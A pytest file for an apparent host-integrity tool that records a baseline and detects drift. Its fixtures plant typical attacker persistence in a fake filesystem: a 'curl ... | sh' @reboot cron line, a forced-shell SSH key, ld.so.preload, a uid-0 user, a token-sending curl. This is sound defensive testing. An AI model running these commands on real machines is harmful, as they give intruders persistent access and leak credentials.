"""The record of a host's good state: what a thief leaves behind is seen, and no value stands in it."""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path

import pytest
from tests_support import token as token_bytes

from keyward.errors import ConfigError
from keyward.incident.host_areas import Gathered, Places, expand, gather
from keyward.incident.host_record import Hasher, HostRecord, drift, dumps, loads, not_compared
from keyward.model.incident import ADDED, CHANGED, REMOVED
from keyward.model.secret import Secret


def token(seed: int) -> str:
    return token_bytes(seed).decode()


HASHER = Hasher(Secret(b"k" * 32))


def key_line(text: str, comment: str, options: str = "") -> str:
    blob = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0 " + text.encode().ljust(32, b"x")).decode()
    return f"{options}ssh-ed25519 {blob} {comment}"


class Machine:
    """A small root file system."""

    def __init__(self, root: Path) -> None:
        self.root, self.home = root, root / "home" / "ana"
        self.write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nana:x:1000:1000::/home/ana:/bin/bash\n")
        self.write("etc/group", "sudo:x:27:ana\nusers:x:100:\n")
        self.write("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
        self.write("var/spool/cron/crontabs/ana", "*/5 * * * * /home/ana/bot/tick.sh\n")
        self.write("etc/systemd/system/bot.service", "[Service]\nExecStart=/home/ana/bot/run\n")
        self.write("home/ana/.ssh/authorized_keys", "# mine\n" + key_line("a", "ana@laptop") + "\n")
        self.write("home/ana/.bashrc", "alias ll='ls -l'\n")
        self.write("home/ana/bot/.env", f"OPENAI_API_KEY={token(1)}\nexport DEBUG=1\n")
        self.write(
            "proc/net/tcp",
            "  sl  local_address rem_address   st\n" + self.socket("0100007F:1F90") + self.socket("00000000:0016"),
        )

    @staticmethod
    def socket(address: str) -> str:
        return (
            f"   0: {address} 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 12345 1 0 100 0 0 10 0\n"
        )

    def write(self, path: str, text: str) -> Path:
        full = self.root / path
        full.parent.mkdir(parents=True, exist_ok=True)
        full.write_text(text)
        return full

    def look(self, docker: dict[str, bytes] | None = None) -> HostRecord:
        into = Gathered(HASHER)
        env = expand([str(self.home / "bot" / ".env*")])
        answers = docker or {}
        gather(
            Places(str(self.home), str(self.root), env_files=env),
            into,
            lambda argv: answers.get(argv[1]) if argv[0] == "docker" else None,
        )
        return HostRecord(1.0, "vm", "ana", into.areas, tuple(sorted(into.unreadable.items())))


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    return Machine(tmp_path)


def changes(before: HostRecord, now: HostRecord) -> list[tuple[str, str, str]]:
    return [(each.area, each.change, each.name) for each in drift(before, now)]


def test_nothing_changed_is_no_difference(machine: Machine) -> None:
    before = machine.look()
    assert {"authorized_keys", "cron", "systemd", "shell file", "user", "port", "env file"} <= set(before.areas)
    assert changes(before, machine.look()) == []


def test_every_usual_way_to_stay_is_seen(machine: Machine) -> None:
    before = machine.look()
    keys = machine.home / ".ssh" / "authorized_keys"
    keys.write_text(keys.read_text() + key_line("b", "evil@nowhere", 'command="/bin/sh" ') + "\n")
    crontab = machine.root / "var/spool/cron/crontabs/ana"
    crontab.write_text(crontab.read_text() + "@reboot curl -s https://example.org/x | sh\n")
    machine.write("etc/cron.d/update", "* * * * * root /tmp/.x/update\n")
    machine.write("home/ana/.config/systemd/user/sync.timer", "[Timer]\nOnBootSec=1\n")
    machine.write("home/ana/.bashrc", "alias ll='ls -l'\nexport PATH=/tmp/.x:$PATH\n")
    machine.write("etc/ld.so.preload", "/tmp/.x/hide.so\n")
    machine.write("etc/passwd", (machine.root / "etc/passwd").read_text() + "sys:x:0:0::/:/bin/sh\n")
    machine.write("etc/group", "sudo:x:27:ana,sys\n")
    machine.write("proc/net/tcp", (machine.root / "proc/net/tcp").read_text() + machine.socket("00000000:7A69"))
    machine.write(
        "home/ana/bot/.env", (machine.home / "bot/.env").read_text() + "OPENAI_BASE_URL=https://example.org/v1\nLEVEL=2\n"
    )
    found = drift(before, machine.look())
    seen = {(each.area, each.change, each.name.rpartition("/")[2]): each for each in found}
    for wanted in (
        ("cron", ADDED, "ana: @reboot curl"),
        ("cron", ADDED, "update: * * * * * update"),
        ("systemd", ADDED, "sync.timer"),
        ("shell file", CHANGED, ".bashrc"),
        ("shell file", ADDED, "ld.so.preload"),
        ("user", ADDED, "user sys"),
        ("user", ADDED, "member of sudo: sys"),
        ("port", ADDED, "tcp 0.0.0.0:31337"),
        ("env file", ADDED, ".env OPENAI_BASE_URL"),
        ("env file", ADDED, ".env LEVEL"),
    ):
        assert wanted in seen, f"{wanted} is not in {sorted(seen)}"
        assert seen[wanted].suspicious is (wanted[2] != ".env LEVEL")
    (key,) = (each for each in found if each.area == "authorized_keys")
    assert key.change == ADDED and "SHA256:" in key.name and key.detail == "evil@nowhere with options"
    assert found[0].suspicious and not found[-1].suspicious, "what is suspicious comes first"


def test_what_is_gone_or_changed_is_named(machine: Machine) -> None:
    before = machine.look()
    (machine.home / ".ssh" / "authorized_keys").write_text("")
    (machine.home / "bot" / ".env").write_text(f"OPENAI_API_KEY={token(2)}\nexport DEBUG=1\n")
    found = changes(before, machine.look())
    assert [each[:2] for each in found] == [("authorized_keys", REMOVED), ("env file", CHANGED)]


def test_images_and_containers_are_compared(machine: Machine) -> None:
    def docker(digest: str) -> dict[str, bytes]:
        return {"ps": b"bot\tbot:latest\trunning\n", "images": f"bot:latest\tsha256:{digest}\tsha256:{digest}\n".encode()}

    before = machine.look(docker("aa"))
    (found,) = drift(before, machine.look(docker("bb")))
    assert (found.area, found.change, found.name, found.suspicious) == ("image", CHANGED, "image bot:latest", True)


def test_no_value_stands_in_the_record_and_no_guess_can_be_tried(machine: Machine) -> None:
    machine.write("etc/cron.d/push", f"* * * * * root curl -H 'Authorization: Bearer {token(3)}' https://example.org\n")
    record = machine.look()
    text = dumps(record, HASHER).decode()
    for secret in (token(1), token(3)):
        assert secret not in text
    assert "curl" in text
    other = Hasher(Secret(b"o" * 32))
    name, item = next((name, item) for name, item in record.areas["env file"].items() if name.endswith("DEBUG"))
    assert HASHER("env file", name, b"1") == item.digest != other("env file", name, b"1"), "only who has the key can compare"


def test_two_files_with_one_value_do_not_look_equal(machine: Machine) -> None:
    machine.write("home/ana/bot/.env.old", (machine.home / "bot" / ".env").read_text())
    items = machine.look().areas["env file"]
    assert len({item.digest for item in items.values()}) == len(items) == 4


def test_a_record_that_was_changed_is_refused(machine: Machine) -> None:
    record = machine.look()
    data = dumps(record, HASHER)
    assert loads(data, HASHER, "x") == record
    forged = json.loads(data)
    forged["record"]["areas"]["user"]["user sys"] = ["00", "uid 0", 0.0]
    for bad in (json.dumps(forged).encode(), b"{}", b"\xff", data[:-40]):
        with pytest.raises(ConfigError):
            loads(bad, HASHER, "x")
    with pytest.raises(ConfigError, match="was changed"):
        loads(data, Hasher(Secret(b"o" * 32)), "x")


def test_what_could_not_be_read_is_named_and_not_called_gone(machine: Machine) -> None:
    before = machine.look()
    hidden = str(machine.root / "var/spool/cron/crontabs/ana")
    kept = {
        area: {name: item for name, item in items.items() if hidden not in name} for area, items in machine.look().areas.items()
    }
    now = before._replace(areas=kept, unreadable=((hidden, "permission denied"),))
    assert drift(before, now) == ()
    assert not_compared(before, now) == ((hidden, "permission denied"),)


def test_odd_files_harm_nothing(machine: Machine) -> None:
    os.mkfifo(machine.root / "etc/profile.d.fifo")
    (machine.root / "etc/cron.d").mkdir(exist_ok=True)
    os.mkfifo(machine.root / "etc/cron.d/pipe")
    os.symlink("/nowhere", machine.root / "etc/cron.d/link")
    os.symlink("/dev/null", machine.root / "etc/systemd/system/masked.service")
    (machine.home / ".ssh" / "authorized_keys").write_bytes(b"\xff\xfe nonsense\n\x1b]0;x\x07\nssh-ed25519 !!! x\n")
    (machine.root / "etc" / "passwd").write_bytes(b"broken\n:::\nana:x:1:1::/home/ana:/bin/bash\n")
    record = machine.look()
    assert record.areas["systemd"][str(machine.root / "etc/systemd/system/masked.service")].shown == "switched off"
    assert loads(dumps(record, HASHER), HASHER, "x") == record
